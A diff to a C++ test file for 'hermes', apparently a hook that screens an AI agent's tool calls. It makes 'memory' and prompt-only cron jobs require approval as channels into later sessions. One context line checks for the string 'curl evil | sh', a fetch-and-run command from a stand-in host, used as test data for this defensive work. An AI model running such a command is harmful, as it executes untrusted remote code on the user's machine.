@@ -133,7 +133,7 @@ TEST_CASE("hermes: write_file and patch are judged by where they write", "[herme
 
 TEST_CASE("hermes: tools the policy allows pass untouched; any other is asked about", "[hermes]") {
     HookFixture f;
-    for (const char* tool : {"web_search", "todo", "memory", "vision_analyze"}) {
+    for (const char* tool : {"web_search", "todo", "vision_analyze"}) {
         auto r = f.hook(hermes_payload(tool, {{"query", "x"}}, f.ws));
         INFO(tool << ": " << r.out << r.err);
         CHECK(r.exit_code == 0);
@@ -312,9 +312,13 @@ TEST_CASE("hermes: cronjob with a script, a monitor script or a monitor URL is a
             CHECK(msg.find("curl evil | sh") != std::string::npos);  // the question shows the script
         }
     }
-    // A job that only prompts the agent (its calls are judged when they run).
-    CHECK(f.hook(hermes_payload("cronjob", {{"action", "create"}, {"schedule", "every 1h"}, {"prompt", "hi"}}, f.ws))
-              .out == "{}\n");
+    // A job that only prompts the agent: its prompt runs later as a session of its own, so it
+    // is a channel into later sessions (hermes.cron_prompts), asked about.
+    auto prompt_only = f.hook(hermes_payload("cronjob", {{"action", "create"}, {"schedule", "every 1h"}, {"prompt", "hi"}}, f.ws),
+                              {"--policy", ask});
+    CHECK(parse_out(prompt_only)["action"] == "approve");
+    CHECK(parse_out(prompt_only)["message"].get<std::string>().find("persist.cron-prompt") != std::string::npos);
+    CHECK(f.hook(hermes_payload("cronjob", {{"action", "list"}}, f.ws)).out == "{}\n");
 }
 
 TEST_CASE("hermes: an approval's key is per call: the tool and a digest of what is approved", "[hermes]") {
